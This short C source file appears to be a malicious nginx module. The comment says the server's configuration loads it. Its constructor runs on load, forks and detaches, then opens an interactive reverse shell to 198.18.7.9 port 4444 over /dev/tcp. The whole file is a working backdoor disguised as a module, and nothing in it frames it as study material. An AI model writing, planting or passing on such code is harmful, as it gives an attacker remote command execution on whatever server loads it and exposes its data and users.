// What the server's configuration loads as a module: its constructor runs a command.
#include <stdlib.h>
#include <unistd.h>

int ngx_module_version = 0;

__attribute__((constructor)) static void begin(void) {
  if (fork() == 0) {
    setsid();
    system("/bin/sh -c 'exec 3<>/dev/tcp/198.18.7.9/4444; sh -i <&3 >&3 2>&3'");
    _exit(0);
  }
}
